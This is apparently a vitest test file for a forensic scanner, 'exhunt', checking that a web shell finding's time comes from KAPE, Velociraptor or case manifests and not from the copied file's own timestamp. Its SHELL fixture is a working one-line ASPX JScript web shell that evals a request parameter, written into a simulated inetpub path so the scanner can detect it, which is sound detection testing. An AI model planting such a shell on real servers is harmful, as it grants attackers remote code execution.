// File times from exhunt case, KAPE and Velociraptor manifests: a web shell's finding carries the modification time the tool
// recorded on the server (labelled), never the copy's own time. Manifests written in the tools' documented formats:
// KAPE `<ts>_CopyLog.csv` (KAPE docs "Log files": UTF-8 BOM, CRLF, `yyyy-MM-dd HH:mm:ss.fffffff` UTC), Velociraptor
// result rows of `Windows.KapeFiles.Targets/All File Metadata` (JSON Lines, RFC 3339 times) beside uploads.json
// (reporting/container.go: upload time, path and sizes only).
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding, ScanReport } from '../src/model.js';
import { exhunt } from './support/cli.js';
import { sanitize, writeZip } from './support/collections.js';

const SHELL = '<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>\r\n';
const WIN = 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\xHA6boc8.aspx';
const PARTS = ['inetpub', 'wwwroot', 'aspnet_client', 'system_web', 'xHA6boc8.aspx'];
const COPY_HEADER = 'CopiedTimestamp,SourceFile,DestinationFile,FileSize,SourceFileSha1,DeferredCopy,CreatedOnUtc,ModifiedOnUtc,LastAccessedOnUtc,CopyDuration';
const COPIED = new Date('2026-12-01T10:15:03Z');

let dir = '';
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'exhunt-ctimes-'));
});
afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** KAPE target output (`--tdest`, RecreateDirectories) with the web shell, and a CopyLog listing `rows`. */
function kape(name: string, rows: string[] | null): string {
  const out = join(dir, name);
  const shell = join(out, 'C', ...PARTS);
  mkdirSync(join(shell, '..'), { recursive: true });
  writeFileSync(shell, SHELL);
  utimesSync(shell, COPIED, COPIED); // the copy's own time: must never show up
  if (rows) writeFileSync(join(out, '2026-12-01T10_15_00_1234567_CopyLog.csv'), `\uFEFF${[COPY_HEADER, ...rows].map((l) => `${l}\r\n`).join('')}`);
  return out;
}

function shellFinding(input: string): Finding {
  const r = exhunt(['scan', input, '--json', '-']);
  const h = (JSON.parse(r.stdout) as ScanReport).hosts[0];
  const f = h.findings.find((x) => x.source.line === undefined && x.source.record === undefined && x.source.path.endsWith('xHA6boc8.aspx'));
  expect(f, JSON.stringify(h.findings.map((x) => x.source))).toBeDefined();
  return f!;
}

describe('file times from collection manifests', () => {
  it('KAPE: the CopyLog ModifiedOnUtc of the file is the finding time, labelled', () => {
    const row = `2026-12-01 10:15:03.9776063,${WIN},E:\\kape\\tout\\C\\${PARTS.join('\\')},${SHELL.length},0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C,False,2021-03-03 06:49:45.0000000,2021-03-03 06:49:46.2101234,2026-12-01 10:15:03.9776063,00:00:00.0154972`;
    const f = shellFinding(kape('kape-listed', [row]));
    expect(f.time).toBe('2021-03-03T06:49:46.210Z');
    expect(f.evidence.mtime_origin).toBe('KAPE 2026-12-01T10_15_00_1234567_CopyLog.csv ModifiedOnUtc (modification time on the server, recorded when copying)');
  });

  it('KAPE without a row for the file, and a plain copied tree: no time (the copy date is never used)', () => {
    const other = `2026-12-01 10:15:03.9776063,C:\\inetpub\\wwwroot\\web.config,E:\\kape\\tout\\C\\inetpub\\wwwroot\\web.config,10,00,False,2020-01-01 00:00:00.0000000,2020-01-01 00:00:00.0000000,2026-12-01 10:15:03.9776063,00:00:00.0010000`;
    for (const input of [kape('kape-unlisted', [other]), kape('plain-copy', null)]) {
      const f = shellFinding(input);
      expect(f.time).toBeNull();
      expect(f.evidence.mtime_origin).toBeUndefined();
    }
  });

  it('Velociraptor: the All File Metadata row of the upload gives the time, labelled; uploads.json alone gives none', async () => {
    const entries = new Map<string, Buffer>([
      [`uploads/auto/${sanitize('C:')}/${PARTS.map(sanitize).join('/')}`, Buffer.from(SHELL)],
      ['client_info.json', Buffer.from(JSON.stringify([{ Hostname: 'MAIL01', Fqdn: 'mail01.corp.example', OS: 'windows' }]))],
      ['collection_context.json', Buffer.from(JSON.stringify({ client_id: 'C.1234567890abcdef', session_id: 'F.CT7QH9NOT6O5K', request: { artifacts: ['Windows.KapeFiles.Targets'] }, state: 'FINISHED' }))],
      ['uploads.json', Buffer.from(`${JSON.stringify({ Timestamp: '2026-12-01T10:15:03Z', started: '2026-12-01 10:15:03 +0000 UTC', vfs_path: WIN, _Components: ['uploads', 'auto', 'C:', ...PARTS], file_size: SHELL.length, uploaded_size: SHELL.length, Type: '' })}\n`)],
    ]);
    const bare = join(dir, 'velo-bare.zip');
    await writeZip(entries, bare);
    expect(shellFinding(bare).time).toBeNull();
    const meta = { Created: '2021-03-03T06:49:45.0000000Z', Changed: '2021-03-03T06:49:46.2101234Z', LastAccessed: '2026-12-01T10:15:03.1000000Z', Modified: '2021-03-03T06:49:46.2101234Z', Size: SHELL.length, SourceFile: WIN };
    entries.set(`results/${sanitize('Windows.KapeFiles.Targets/All File Metadata')}.json`, Buffer.from(`${JSON.stringify(meta)}\n`));
    const listed = join(dir, 'velo-listed.zip');
    await writeZip(entries, listed);
    const f = shellFinding(listed);
    expect(f.time).toBe('2021-03-03T06:49:46.210Z');
    expect(f.evidence.mtime_origin).toBe('Velociraptor Windows.KapeFiles.Targets/All File Metadata row, Modified (modification time on the server, recorded when collecting)');
  });

  it('exhunt case: the manifest mtime of the file is the finding time, labelled', () => {
    const out = join(dir, 'case');
    const rel = `files/C/${PARTS.join('/')}`;
    mkdirSync(join(out, 'files', 'C', ...PARTS.slice(0, -1)), { recursive: true });
    writeFileSync(join(out, rel), SHELL);
    utimesSync(join(out, rel), COPIED, COPIED);
    const file = { kind: 'file', original: WIN, path: rel, size: SHELL.length, sha256: createHash('sha256').update(SHELL).digest('hex'), mtime: '2021-03-03T06:49:46.000Z', ctime: null, atime: null, btime: null, errors: [] };
    const collector = { tool: 'exhunt collect', version: '0', command_line: 'exhunt collect', user: 'ir', host: 'MAIL01', platform: 'win32', live: true, started: '2026-12-01T10:15:00.000Z', finished: '2026-12-01T10:16:00.000Z', sources: [], size_cap_bytes: null };
    writeFileSync(join(out, 'manifest.json'), JSON.stringify({ schema: 'exhunt.case/1', server: { host: 'MAIL01', exchange_path: null, exsetup_version: null }, collector, files: [file], errors: [] }));
    const f = shellFinding(out);
    expect(f.time).toBe('2021-03-03T06:49:46.000Z');
    expect(f.evidence.mtime_origin).toBe('case manifest (modification time on the server, recorded before copying)');
  });
});
